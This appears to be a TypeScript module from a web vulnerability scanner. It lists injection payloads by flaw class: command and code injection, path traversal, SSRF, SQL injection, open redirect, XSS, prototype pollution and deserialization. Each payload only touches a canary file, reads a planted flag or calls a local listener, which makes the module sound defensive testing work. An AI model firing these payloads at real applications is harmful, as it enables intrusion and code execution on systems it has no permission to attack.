import { type FlawClass, NONCE_PLACE, type Oracle } from '@daimon/scanner-api'
import { LISTENER_PORT, type SinkCallKind, canaryPath, flagPath } from './inside/job.ts'

/** How one class of flaw is tried on an application: what is sent, and how the effect is seen. */
export type Attack = {
  readonly class: FlawClass
  /** What success shows, in words. */
  readonly effect: string
  readonly cwe: string
  readonly oracle: Oracle
  /** What the call is, in which the harm is done. */
  readonly kinds: readonly SinkCallKind[]
  readonly payloads: readonly string[]
  /** Of the same shape, and harmless. */
  readonly control: string
  /** The payload is no text but the whole body, as JSON, or the whole query. */
  readonly isWhole?: true
  /** No word shows the way, since what counts are names or a format: everything is tried where the class is suspected. */
  readonly isBlind?: true
  /** It is also tried in Base64, and in cookies. */
  readonly isEncoded?: true
}

const touch = `touch ${canaryPath(NONCE_PLACE)}`
const write = `process.getBuiltinModule('node:fs').writeFileSync('${canaryPath(NONCE_PLACE)}','')`
const writeDouble = write.replaceAll("'", '"')
const flag = flagPath(NONCE_PLACE, '')

/** Tried in this order; of each, what succeeds in most places first. */
export const ATTACKS: readonly Attack[] = [
  {
    class: 'command-injection',
    effect: 'a command of the payload runs',
    cwe: 'CWE-78',
    oracle: 'canary-file',
    kinds: ['command'],
    payloads: [
      `;${touch};`,
      `$(${touch})`,
      `\`${touch}\``,
      `";${touch};"`,
      `';${touch};'`,
      `\n${touch}\n`,
      `|${touch}|`,
      `&${touch}&`,
      touch,
      `;${touch.replace(' ', '${IFS}')};`,
      `'$(${touch})'`,
    ],
    control: `canary-${NONCE_PLACE}`,
  },
  {
    class: 'code-injection',
    effect: 'code of the payload runs',
    cwe: 'CWE-94',
    oracle: 'canary-file',
    kinds: ['code', 'path'],
    payloads: [
      write,
      `${write}//`,
      `a,${write}`,
      `');${write}//`,
      `");${writeDouble}//`,
      `'+${write}+'`,
      `"+${writeDouble}+"`,
      `\${${write}}`,
      `;${write};`,
      `1);${write};(1`,
      `this.constructor.constructor('return process')().getBuiltinModule('node:fs').writeFileSync('${canaryPath(NONCE_PLACE)}','')`,
    ],
    control: `'canary-${NONCE_PLACE}'`,
  },
  {
    class: 'path-traversal',
    effect: 'a file outside of the application is read, changed or taken away',
    cwe: 'CWE-22',
    oracle: 'planted-flag',
    kinds: ['path'],
    payloads: [
      `../../../../../../../..${flag}`,
      flag,
      `....//....//....//....//....//....//....//....${flag}`,
      `..%2f..%2f..%2f..%2f..%2f..%2f..%2f..${flag.replaceAll('/', '%2f')}`,
      `x/../../../../../../../../..${flag}`,
    ],
    control: NONCE_PLACE,
  },
  {
    class: 'ssrf',
    effect: 'a service that only the application may reach is asked',
    cwe: 'CWE-918',
    oracle: 'inside-listener',
    kinds: ['request'],
    payloads: [
      `http://127.0.0.1:${LISTENER_PORT}/${NONCE_PLACE}`,
      `127.0.0.1:${LISTENER_PORT}/${NONCE_PLACE}`,
      `//127.0.0.1:${LISTENER_PORT}/${NONCE_PLACE}`,
      `@127.0.0.1:${LISTENER_PORT}/${NONCE_PLACE}`,
    ],
    control: `http://${NONCE_PLACE}.invalid/`,
  },
  {
    class: 'sql-injection',
    effect: 'a word of the payload becomes part of the statement',
    cwe: 'CWE-89',
    oracle: 'sql-structure',
    kinds: ['sql'],
    payloads: [
      `1' OR ${NONCE_PLACE}='1`,
      `1 OR ${NONCE_PLACE}=1`,
      `1" OR ${NONCE_PLACE}="1`,
      `1') OR ${NONCE_PLACE}=('1`,
      NONCE_PLACE,
    ],
    control: '1',
  },
  {
    class: 'open-redirect',
    effect: 'the browser is sent to a host of the payload',
    cwe: 'CWE-601',
    oracle: 'redirect',
    kinds: ['redirect'],
    payloads: [
      `https://${NONCE_PLACE}.example/`,
      `//${NONCE_PLACE}.example/`,
      `/\\${NONCE_PLACE}.example/`,
    ],
    control: `/${NONCE_PLACE}`,
  },
  {
    class: 'xss',
    effect: 'an element of the payload stands in the page',
    cwe: 'CWE-79',
    oracle: 'reflected-markup',
    kinds: ['markup'],
    payloads: [
      `<svg onload=alert("${NONCE_PLACE}")>`,
      `"><svg onload=alert(\`${NONCE_PLACE}\`)>`,
      `<img src=x onerror=alert(${NONCE_PLACE})>`,
    ],
    control: `(svg ${NONCE_PLACE})`,
  },
  {
    class: 'prototype-pollution',
    effect: 'every object has a property of the payload',
    cwe: 'CWE-1321',
    oracle: 'polluted-property',
    kinds: ['prototype'],
    payloads: [
      `{"__proto__":{"${NONCE_PLACE}":"polluted"}}`,
      `{"constructor":{"prototype":{"${NONCE_PLACE}":"polluted"}}}`,
    ],
    control: `{"${NONCE_PLACE}":"polluted"}`,
    isWhole: true,
    isBlind: true,
  },
  {
    class: 'deserialization',
    effect: 'code of the payload runs',
    cwe: 'CWE-502',
    oracle: 'canary-file',
    kinds: ['code'],
    payloads: [
      `{"a":"_$$ND_FUNC$$_function(){${write}}()"}`,
      `{a:(function(){${write}})()}`,
      `{"a":{"__js_function":"function(){${write}}()"}}`,
    ],
    control: `{"a":"canary-${NONCE_PLACE}"}`,
    isBlind: true,
    isEncoded: true,
  },
  {
    class: 'redos',
    effect: 'time grows far faster than the length of the text',
    cwe: 'CWE-1333',
    oracle: 'cpu-growth',
    kinds: ['pattern'],
    // They follow from the pattern that the text gets to.
    payloads: [],
    control: '',
  },
]
